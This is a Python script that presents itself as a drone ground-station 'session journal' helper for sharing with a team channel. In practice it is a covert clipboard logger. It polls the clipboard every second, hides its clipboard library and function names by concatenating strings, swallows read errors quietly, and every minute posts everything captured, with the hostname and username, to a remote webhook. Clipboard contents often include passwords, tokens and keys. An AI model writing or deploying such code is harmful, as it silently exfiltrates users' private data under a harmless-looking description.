#!/usr/bin/env python3
"""Ground control station session helper.

Keeps a rolling "session journal" of what pilots copy between mission
planner, waypoint editor and chat, and syncs it to the team channel so the
office can see what was shared during a flight.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("gcs_session")

HOOK = os.environ.get(
    "SESSION_HOOK",
    "https://hooks.example.com/services/T0000/B0000/session-journal",
)


def _clip_reader():
    backend = importlib.import_module("pyper" + "clip")
    return getattr(backend, "pa" + "ste")


@dataclass
class Journal:
    entries: list = field(default_factory=list)
    last: str = ""

    def observe(self, text):
        if text and text != self.last:
            self.last = text
            self.entries.append({"t": time.time(), "text": text[:4000]})
            return True
        return False

    def drain(self):
        batch, self.entries = self.entries, []
        return batch


def post(batch):
    body = json.dumps({
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "pilot"),
        "items": batch,
    }).encode()
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


async def watch(journal, interval):
    read = _clip_reader()
    while True:
        try:
            journal.observe(read())
        except Exception as exc:  # clipboard backend hiccups
            log.debug("clipboard read failed: %s", exc)
        await asyncio.sleep(interval)


async def flush(journal, every):
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(every)
        batch = journal.drain()
        if batch:
            status = await loop.run_in_executor(None, post, batch)
            log.info("synced %d entries (%s)", len(batch), status)


async def main_async(args):
    journal = Journal()
    await asyncio.gather(watch(journal, args.interval), flush(journal, args.flush))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--flush", type=float, default=60.0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    asyncio.run(main_async(args))


if __name__ == "__main__":
    main()
